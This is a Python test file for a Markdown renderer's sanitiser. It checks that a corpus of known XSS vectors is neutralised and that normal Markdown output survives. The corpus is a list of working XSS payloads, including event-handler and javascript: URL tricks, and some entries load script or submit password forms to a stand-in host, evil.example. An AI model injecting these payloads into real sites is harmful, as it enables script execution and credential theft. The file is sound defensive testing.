"""Rendering and sanitising: Markdown features survive, known XSS vectors do not."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from docs_engine.rendering import render_markdown

XSS_CORPUS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    '<body onload="alert(1)">',
    '<svg onload="alert(1)"><circle r="1"/></svg>',
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>",
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '<img src="data:image/png;base64,AAAA">',
    "[x]: javascript:alert(1)\n\n[x]",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</p>',
    "<style>body{display:none}</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<form action="https://evil.example"><input name="p" type="password"></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<details open ontoggle="alert(1)">x</details>',
    '<a href="https://ok.example" onclick="alert(1)">x</a>',
    '<a href="https://ok.example" onmouseover=alert(1)>x</a>',
    '<base href="https://evil.example/">',
    '<isindex action="javascript:alert(1)">',
    '<video><source onerror="alert(1)"></video>',
    "<audio src=x onerror=alert(1)>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<x onclick="alert(1)">x</x>',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<h2 id="x" onclick="alert(1)">heading</h2>',
    '<span class="x" style="color:red" onmouseenter="alert(1)">x</span>',
    '<code class="x&quot; onmouseover=&quot;alert(1)">x</code>',
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    '<a href="https://ok.example/"><img src=x onerror=alert(1)></a>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    '<a xlink:href="javascript:alert(1)">x</a>',
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]

FORBIDDEN_TAGS = re.compile(
    r"<\s*(script|iframe|object|embed|svg|math|style|link|meta|form|input|button|base|"
    r"video|audio|source|template|noscript|isindex|body)\b",
    re.I,
)
EVENT_HANDLER = re.compile(r"<[^>]*\son[a-z]+\s*=", re.I)
STYLE_ATTR = re.compile(r"<[^>]*\sstyle\s*=", re.I)
BAD_URL = re.compile(
    r"""(href|src|action|formaction|background)\s*=\s*["']?\s*(javascript|vbscript|data):""", re.I
)


def assert_safe(html: str) -> None:
    assert not FORBIDDEN_TAGS.search(html), html
    assert not EVENT_HANDLER.search(html), html
    assert not STYLE_ATTR.search(html), html
    assert not BAD_URL.search(html), html
    assert "<!--" not in html, html


@pytest.mark.parametrize("vector", XSS_CORPUS)
def test_known_xss_vectors_are_neutralised(vector):
    assert_safe(render_markdown(vector))
    assert_safe(render_markdown(f"# Title\n\nText {vector} more\n\n- item {vector}\n"))


@given(
    st.lists(
        st.sampled_from(XSS_CORPUS + ["<", ">", '"', "'", "=", " ", "\n", "a", "]("]), max_size=12
    )
)
def test_mixtures_of_vectors_stay_safe(parts):
    assert_safe(render_markdown("".join(parts)))


def test_markdown_features_survive_sanitising():
    html = render_markdown(
        "# Install guide\n\n"
        "Some *em* and **strong** and ~~gone~~ and `code`.\n\n"
        "| a | b |\n|:--|--:|\n| 1 | 2 |\n\n"
        "```python\ndef f():\n    return 1\n```\n\n"
        "[link](https://example.com) ![alt](/static/x.png)\n"
    )
    assert '<h1 id="install-guide">Install guide</h1>' in html
    assert "<em>em</em>" in html and "<strong>strong</strong>" in html and "<s>gone</s>" in html
    assert "<table>" in html and 'class="align-left"' in html and 'class="align-right"' in html
    assert '<pre class="highlight"><code class="language-python">' in html
    assert '<span class="k">def</span>' in html  # pygments token classes
    assert '<a href="https://example.com">link</a>' in html
    assert '<img src="/static/x.png" alt="alt">' in html


def test_front_matter_is_not_rendered_and_docs_links_point_at_the_reader():
    html = render_markdown("---\nowner: me\n---\n[x](/docs/faq)", link_base="/p/acme/docs/")
    assert "owner" not in html
    assert 'href="/p/acme/docs/faq"' in html


def test_duplicate_headings_get_unique_ids():
    html = render_markdown("## Setup\n\n## Setup\n\n## Setup")
    assert 'id="setup"' in html and 'id="setup-1"' in html and 'id="setup-2"' in html


def test_unknown_code_language_is_escaped_plain_text():
    html = render_markdown("```nosuchlang\n<b>x</b>\n```")
    assert "&lt;b&gt;x&lt;/b&gt;" in html
